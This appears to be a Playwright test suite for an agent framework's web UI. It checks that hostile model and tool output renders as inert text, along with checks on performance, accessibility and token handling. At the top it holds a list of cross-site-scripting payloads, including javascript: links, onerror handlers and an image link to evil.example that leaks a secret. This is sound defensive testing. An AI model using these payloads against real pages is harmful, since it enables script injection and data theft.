import { afterAll, beforeAll, expect, test } from "vitest";
import { silentLogger } from "../src/base/logger.ts";
import { createDragoman } from "../src/configure.ts";
import type { Message } from "../src/message/message.ts";
import { memorySessions } from "../src/stores/memory-sessions.ts";
import { scriptedModel } from "../src/testing/scripted-model.ts";
import { defineTool } from "../src/tool/define-tool.ts";
import {
  accessibilityFaults,
  buildWebUi,
  openWebUi,
  type WebUiSite,
  workOf,
} from "./web-ui-site.ts";

const attack = [
  "<script>globalThis.pwned = 1</script>",
  `<img src=x onerror="globalThis.pwned = 2">`,
  `<a href="javascript:globalThis.pwned=3">tag</a>`,
  `<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>`,
  "[link](javascript:globalThis.pwned=5)",
  "[encoded](&#106;avascript:globalThis.pwned=6)",
  "[data](data:text/html,<script>opener.pwned=7</script>)",
  "[own](/runs/run_1/cancel)",
  "<javascript:globalThis.pwned=8>",
  "![picture](https://evil.example/leak.png?q=secret)",
  "[good](https://example.com/page)",
  "`<b>code</b>`",
  "```html\n<script>globalThis.pwned = 9</script>\n```",
  `| a |\n|---|\n| <img src=x onerror="globalThis.pwned=10"> |`,
].join("\n\n");

const hugeLength = 5_000_000;
const longWord = "Donaudampfschifffahrt".repeat(60);

const evilTool = defineTool({
  name: "evil",
  title: "<b>Evil</b>",
  description: attack,
  inputSchema: {
    type: "object",
    properties: { "<i>x</i>": { type: "string", description: attack, title: longWord } },
  } as never, // JSON Schema, as a server would send it
  execute: () => attack,
});

const hugeTool = defineTool({
  name: "huge",
  description: "Says a lot.",
  execute: () => "x ".repeat(hugeLength / 2),
});

const stack = new AsyncDisposableStack();
const sessions = memorySessions();
const manyMessages = 10_000;
let folder = "";
let site: WebUiSite;

beforeAll(async () => {
  ({ folder } = stack.use(await buildWebUi()));
  const dragoman = createDragoman({ app: "desk", env: {}, logger: silentLogger, sessions });
  const model = scriptedModel([
    ({ messages }) => {
      const last = messages.at(-1);
      const name = JSON.stringify(last).includes("huge") ? "huge" : "evil";
      return last?.role === "tool"
        ? { reasoning: attack, text: `${attack}\n\n${longWord}` }
        : { calls: [{ id: "c1", name, arguments: { "<i>x</i>": attack } }] };
    },
  ]);
  const agent = dragoman.defineAgent({
    name: "evil",
    description: attack,
    instructions: attack,
    model,
    tools: [evilTool, hugeTool],
    maxResultCharacters: hugeLength * 2,
  });
  await sessions.create({ app: "desk", id: "long" });
  const messages = Array.from({ length: manyMessages / 2 }, (_, index): readonly Message[] => [
    { role: "user", content: [{ kind: "text", text: `Question ${index}` }] },
    { role: "assistant", content: [{ kind: "text", text: `Answer **${index}**\n\n- one\n- two` }] },
  ]);
  await sessions.append({ app: "desk", id: "long" }, messages.flat());
  site = stack.use(await openWebUi(folder, [agent]));
}, 120_000);

afterAll(() => stack.disposeAsync());

const soon = <Value>(value: () => Value) => expect.poll(value, { timeout: 20_000 });

const done = (): Promise<void> =>
  soon(() => site.page.locator(".activity").textContent()).toBe("Done.");

/** Whether something that was only to be read has run. */
const isPwned = (): Promise<unknown> => site.page.evaluate("globalThis.pwned");

test("P1: what models, tools and descriptions say is text, and runs nowhere", async () => {
  const { page } = site;
  await site.say("evil", attack);
  await done();
  for (const summary of await page.locator("summary").all()) {
    await summary.click();
  }
  const main = page.locator("main");
  expect(await main.locator("script, iframe, img, b, i").count()).toBe(0);
  const links = main.locator(".message a:not(.run-facts a)");
  const targets = await links.evaluateAll((all) => all.map((one) => String(one)));
  // The picture is not loaded, and can be looked at by whoever wants to.
  expect([...new Set(targets)].toSorted()).toEqual([
    "https://evil.example/leak.png?q=secret",
    "https://example.com/page",
  ]);
  expect(await links.first().getAttribute("rel")).toBe("noopener noreferrer");
  expect(await main.textContent()).toContain("<script>globalThis.pwned = 1</script>");
  for (const route of ["/agents/evil", "/tools/evil/evil", "/runs"]) {
    await site.show(route);
    await page.getByText("globalThis.pwned").first().waitFor();
    expect(await main.locator("script, iframe, img, b, i").count()).toBe(0);
  }
  await page.locator(".runs a").first().click();
  await page.locator(".waterfall summary").first().waitFor();
  for (const summary of await page.locator(".waterfall summary").all()) {
    await summary.click();
  }
  expect(await isPwned()).toBeUndefined();
});

test("P1: a result of five megabytes is shown in parts, and the page stays quick", async () => {
  const { page } = site;
  await site.say("evil", "huge");
  await done();
  await page.reload(); // over AG-UI it comes cut; the session has it whole
  const row = page.locator(".tool-row");
  await row.locator("summary").click();
  const result = row.getByLabel("Result");
  const lengthOf = async (): Promise<number> => ((await result.textContent()) ?? "").length;
  expect(await lengthOf()).toBeLessThan(10_000);
  await row.getByRole("button", { name: /Show more of 5\.0 MB/ }).click();
  await soon(lengthOf).toBeGreaterThan(100_000);
  expect(await lengthOf()).toBeLessThan(200_000);
  const typing = await workOf(page, () =>
    page.getByLabel("Message to evil").pressSequentially("Still here?"),
  );
  expect(typing).toBeLessThan(500);
});

test("P1: a conversation of ten thousand messages is there at once, and can be read to its beginning", async () => {
  const { page } = site;
  await site.show("/runs");
  const opening = await workOf(page, async () => {
    await site.show("/chat/evil/long");
    await page.getByText(`Question ${manyMessages / 2 - 1}`).waitFor();
  });
  expect(opening).toBeLessThan(1_000);
  const earlier = page.getByRole("button", { name: "Show earlier messages" });
  const count = (): Promise<number> => page.locator(".message").count();
  for (let round = 0; round < 5; round += 1) {
    const before = await count();
    await earlier.click();
    await soon(count).toBeGreaterThan(before);
  }
  expect(await page.getByText("Question 4999").count()).toBe(1);
});

test("P1: with two thousand messages laid out a key costs the page next to nothing", async () => {
  const { page } = site;
  await site.show("/chat/evil/long");
  const earlier = page.getByRole("button", { name: "Show earlier messages" });
  while ((await page.locator(".message").count()) < 2_000) {
    const before = await page.locator(".message").count();
    await earlier.click();
    await soon(() => page.locator(".message").count()).toBeGreaterThan(before);
  }
  const typing = await workOf(page, () =>
    page.getByLabel("Message to evil").pressSequentially("Still here?"),
  );
  expect(typing).toBeLessThan(1_000);
}, 120_000);

test.each([
  ["light", 360],
  ["light", 1440],
  ["dark", 360],
  ["dark", 1600],
] as const)(
  "P1: every page is accessible and fits, %s, %d pixels wide",
  async (scheme, width) => {
    const { page } = site;
    await page.emulateMedia({ colorScheme: scheme });
    await page.setViewportSize({ width, height: 780 });
    const check = async (): Promise<void> => {
      expect(await accessibilityFaults(page)).toEqual([]);
      const overflow = "document.documentElement.scrollWidth - innerWidth";
      expect(await page.evaluate(overflow)).toBeLessThanOrEqual(0);
    };
    await site.say("evil", attack);
    await done();
    await page.locator(".tool-row summary").first().click();
    await check();
    await site.show("/agents/evil");
    await page.getByText("Be brief").or(page.getByLabel("Instructions")).first().waitFor();
    await page.locator(".card").first().waitFor();
    await check();
    await site.show("/tools/evil/evil");
    await page.getByRole("button", { name: "Call the tool" }).click();
    await page.getByText("See the run").waitFor();
    await soon(() => page.locator(".outcome .badge").first().textContent()).toBe("completed");
    await check();
    await site.show("/runs");
    await page.locator(".runs tbody tr").first().waitFor();
    await check();
    await page.locator(".runs .asked a").first().click();
    await page.locator(".waterfall summary").first().click();
    await check();
    await page.getByRole("button", { name: /^Events/ }).click();
    await check();
  },
  120_000,
);

test("P1: the way through the page is open to the keyboard", async () => {
  const { page } = site;
  await page.setViewportSize({ width: 1280, height: 800 });
  await site.show("/agents/evil");
  await page.reload();
  await page.locator(".card").first().waitFor();
  const focused = (): Promise<unknown> =>
    page.evaluate("(document.activeElement?.textContent ?? '').trim().slice(0, 30)");
  const passed: unknown[] = [];
  for (let count = 0; count < 6; count += 1) {
    await page.keyboard.press("Tab");
    passed.push(await focused());
  }
  expect(passed).toEqual(["Skip to the content", "Dragoman", "Chat", "Agents", "Tools", "Runs"]);
  await page.keyboard.press("Enter");
  await page.locator(".runs").waitFor();
});

test("P1: a token is asked for where one is wanted, and stays in its tab", async () => {
  const token = "a-token-that-nobody-guesses";
  const dragoman = createDragoman({ env: {}, logger: silentLogger, sessions: memorySessions() });
  const agent = dragoman.defineAgent({ name: "guarded", model: scriptedModel(["Hello."]) });
  await using guarded = await openWebUi(folder, [agent], { auth: { token } });
  const { page } = guarded;
  await guarded.show("/chat");
  await page.getByLabel("Token").fill("wrong-wrong-wrong-wrong");
  await page.keyboard.press("Enter");
  await page.getByLabel("Token").fill(token);
  await page.keyboard.press("Enter");
  await page.getByLabel("Message to guarded").fill("Hi");
  await page.keyboard.press("Enter");
  await soon(() => page.locator(".message.text").textContent()).toContain("Hello.");
  await page.reload();
  await soon(() => page.locator(".message.text").textContent()).toContain("Hello.");
  expect(page.url()).not.toContain(token);
  expect(await page.evaluate("JSON.stringify(localStorage) + document.cookie")).not.toContain(
    token,
  );
});

test("P1: without a store of conversations the page says so, and keeps the history itself", async () => {
  const model = scriptedModel(["One.", "Two."]);
  const dragoman = createDragoman({ env: {}, logger: silentLogger });
  const agent = dragoman.defineAgent({ name: "forgetful", model });
  await using unkept = await openWebUi(folder, [agent]);
  const { page, errors } = unkept;
  await unkept.say("forgetful", "First");
  await soon(() => page.locator(".message.text").textContent()).toContain("One.");
  expect(await page.locator(".pane-list").textContent()).toContain("keeps no conversations");
  await page.getByLabel("Message to forgetful").fill("Second");
  await page.keyboard.press("Enter");
  await soon(() => page.locator(".message.text").last().textContent()).toContain("Two.");
  expect(model.requests[1]?.messages.map(({ role }) => role)).toEqual([
    "user",
    "assistant",
    "user",
  ]);
  expect(errors).toEqual([]);
});

test("P1: hostile content has asked for nothing elsewhere, broken no policy and run nothing", async () => {
  expect(site.strangers).toEqual([]);
  expect(site.errors).toEqual([]);
  expect(await isPwned()).toBeUndefined();
});
